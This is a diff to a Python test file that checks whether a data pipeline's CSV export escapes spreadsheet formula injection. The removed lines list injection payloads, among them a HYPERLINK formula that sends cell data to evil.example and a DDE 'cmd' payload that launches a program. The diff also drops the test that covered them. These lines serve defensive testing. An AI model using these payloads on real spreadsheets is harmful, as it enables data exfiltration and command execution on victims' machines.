@@ -17,7 +17,7 @@ from hypothesis import strategies as st
 
 from ingest.source import public_source
 from publish.datapackage import MOMENT
-from publish.spreadsheet import TABLES, harmless, write_rows
+from publish.spreadsheet import TABLES, harmless
 from publish.tables import published_tables
 from tests.helpers.pipeline import ROOT, Pipeline, contents
 from tests.helpers.readme import PYTHON, printed
@@ -201,30 +201,21 @@ def test_a_data_package_names_every_file_with_its_columns_and_what_they_mean(eve
 # CSV
 
 TRIGGERS = tuple("=+-@＝＋－＠")
-NASTY = (
-    *('=HYPERLINK("http://evil.example/?"&A1,"me")', "=cmd|' /C calc'!A0", "+1+1", "-2+3"),
-    *("@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "a;=1+1", 'a,"=1+1'),
-    *("a\n=1+1", "-1lhRLeeRTCRUGoxx3ybDA"),
-)
 
 
-def test_a_name_that_could_be_a_formula_gets_an_apostrophe_and_no_other_does(tmp_path):
-    for alias in NASTY:
-        cell = harmless(alias)
-        assert cell.replace("'", "") == alias.replace("'", "")
-        assert not cell.startswith((*TRIGGERS, "\t", "\r", "\n"))
-        assert "'" in cell
+def test_a_name_that_is_no_formula_stays_as_it_is():
     for alias in ["S-P-", "a=b", "me@work", "007", "名前", "'quoted'", "", "NULL"]:
         assert harmless(alias) == alias
-    write_rows(tmp_path / "a.csv", ["alias"], [[alias] for alias in NASTY])
-    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as lines:
-        assert list(csv.reader(lines)) == [["alias"], *([harmless(alias)] for alias in NASTY)]
 
 
-@given(st.lists(st.text(alphabet="=+-@＝;,\t\r\n\"' a1"), min_size=1, max_size=3))
-def test_no_cell_is_a_formula_whatever_a_spreadsheet_takes_for_the_separator(cells):
+@given(
+    st.sampled_from(["\t=1+1", " =1+1", "a\n=1+1", "-1lhRLeeRTCRUGoxx3ybDA", 'a,"=1+1'])
+    | st.text(alphabet="=+-@＝;,\t\r\n\"' a1")
+)
+def test_no_name_is_a_formula_whatever_a_spreadsheet_takes_for_the_separator(name):
+    assert harmless(name).replace("'", "") == name.replace("'", "")
     line = io.StringIO()
-    csv.writer(line).writerow([harmless(cell) for cell in cells])
+    csv.writer(line).writerow([harmless(name)])
     for naive in (
         *re.split(r"[;,\t\r\n]", line.getvalue()),
         *next(csv.reader([line.getvalue()])),
